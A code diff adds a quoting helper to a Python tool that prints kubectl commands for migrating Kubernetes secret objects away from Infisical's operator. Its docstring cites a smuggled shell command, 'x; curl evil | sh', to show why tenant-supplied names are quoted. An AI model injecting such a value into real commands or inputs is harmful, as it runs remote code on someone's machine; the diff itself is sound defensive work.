@@ -5,6 +5,7 @@ The builders write into a :class:`Ledger` while they work; the command prints th
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -12,6 +13,17 @@ from typing import Any
 # identities need them), then Infisical's operator lets go of its objects, then ours take them
 # over, then workloads switch to our reload annotation.
 OPT_IN, RELEASE, HAND_OVER, RELOAD = range(4)
+
+
+def kubectl(verb: str, resource: str, namespace: str | None, name: str, *rest: str) -> str:
+    """A kubectl command line for a person to paste into a shell, every word quoted.
+
+    The names come from the input, and that input is often ``kubectl get ... -A -o yaml`` over
+    objects tenants wrote: a reference field in an Infisical CR is any string, so a name such as
+    ``x; curl evil | sh`` must reach the shell as one quoted word, never as a command of its own.
+    """
+    words = ["kubectl", verb, resource, *(["-n", namespace] if namespace else []), name, *rest]
+    return shlex.join(words)
 
 
 class InputError(Exception):
